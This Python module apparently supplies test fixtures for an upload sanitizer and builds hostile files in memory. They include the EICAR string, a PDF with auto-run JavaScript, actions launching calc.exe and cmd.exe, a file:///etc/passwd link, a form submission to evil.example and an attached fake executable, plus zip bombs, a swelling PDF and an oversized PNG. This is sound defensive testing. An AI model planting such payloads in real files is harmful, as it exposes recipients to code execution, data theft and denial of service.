"""Files that people give, the good ones and the hostile ones; each made here, in memory."""

import io
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf
from PIL import Image

from grants.rehearsal.papers import pdf

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SIGNATURE = "44d88612fea8a8f36de82e1278abb02f:68:Eicar-Signature\n"  # one line of ClamAV's .hdb: MD5, size, name
ODS = "application/vnd.oasis.opendocument.spreadsheet"


def paper(*lines: str) -> bytes:
    """A PDF page with these lines, and nothing else."""
    return pdf(list(lines) or ["Relevé d’identité bancaire fictif"])


def saved(document: Pdf, **options) -> bytes:
    content = io.BytesIO()
    document.save(content, **options)
    return content.getvalue()


def armed_pdf() -> bytes:
    """Acts at opening and on a page, scripts, links to programs and files, a file inside, a film, a dynamic form."""
    document = Pdf.open(io.BytesIO(paper("Le texte de la page reste")))
    script = Dictionary(S=Name.JavaScript, JS="app.alert('x')", Next=Dictionary(S=Name.Launch, F="calc.exe"))
    document.Root.OpenAction = script
    document.Root.AA = Dictionary(WC=Dictionary(S=Name.JavaScript, JS="1"))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["x", script])))
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA="<xdp/>")
    document.attachments["facture.exe"] = b"MZ" + bytes(100)
    document.pages[0].AA = Dictionary(O=Dictionary(S=Name.SubmitForm, F="https://evil.example/"))
    acts = [
        Dictionary(S=Name.Launch, F="cmd.exe"), Dictionary(S=Name.URI, URI="file:///etc/passwd"),
        Dictionary(S=Name.URI, URI="javascript:alert(1)"), Dictionary(S=Name.ImportData, F="x.fdf"),
        Dictionary(S=Name.URI, URI="https://www.service-public.fr/"),
    ]  # fmt: skip
    links = [document.make_indirect(annotation("Link", A=act)) for act in acts]
    players = [annotation(kind) for kind in ("RichMedia", "FileAttachment", "Movie", "Screen")]
    document.pages[0].Annots = Array([*links, *players])
    with document.open_metadata() as metadata:
        metadata["dc:title"] = "Statuts"
    return saved(document, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def annotation(kind: str, **more) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name(f"/{kind}"), Rect=Array([0, 0, 9, 9]), **more)


def locked_pdf(*, user: str = "secret") -> bytes:
    """A PDF that asks for a password to be opened; with an empty one, only changes are barred."""
    return saved(Pdf.open(io.BytesIO(paper())), encryption=pikepdf.Encryption(owner="secret", user=user))


def swelling_pdf() -> bytes:
    """A small PDF whose table of objects becomes huge."""
    document = Pdf.new()
    document.add_blank_page()
    body = saved(document)
    packed = zlib.compress(bytes(200 * 1024 * 1024), 9)
    stream = b"9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
    return body.replace(b"xref\n", stream + packed + b"\nendstream\nendobj\nxref\n", 1)


def zipped(parts: dict[str, bytes], **options) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED, **options) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return content.getvalue()


def xlsx(parts: dict[str, bytes] | None = None) -> bytes:
    return zipped({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"} | (parts or {}))


def docx(parts: dict[str, bytes] | None = None) -> bytes:
    return zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"} | (parts or {}))


def ods(parts: dict[str, bytes] | None = None) -> bytes:
    return zipped({"mimetype": ODS.encode(), "content.xml": b"<office/>"} | (parts or {}))


def bomb() -> bytes:
    """A spreadsheet of some kilobytes that opens into 200 megabytes."""
    return zipped({"xl/workbook.xml": b"<workbook/>", "xl/worksheets/sheet1.xml": bytes(200 * 1024 * 1024)})


def photo(*, with_place: bool = False, kind: str = "JPEG") -> bytes:
    image, exif, content = Image.new("RGB", (120, 80), "teal"), Image.Exif(), io.BytesIO()
    exif[0x0112] = 6  # turned by a quarter
    if with_place:
        exif[0x8825] = {1: "N", 2: (47.0, 28.0, 12.0), 3: "W", 4: (0.0, 33.0, 1.0)}
    image.save(content, kind, exif=exif)
    return content.getvalue()


def giant_png() -> bytes:
    """A picture of a few bytes that claims to be 40 000 points wide and high."""
    content = bytearray(photo(kind="PNG"))
    at = content.index(b"IHDR") + 4
    content[at : at + 8] = (40_000).to_bytes(4, "big") * 2
    content[at + 13 : at + 17] = zlib.crc32(content[at - 4 : at + 13]).to_bytes(4, "big")
    return bytes(content)
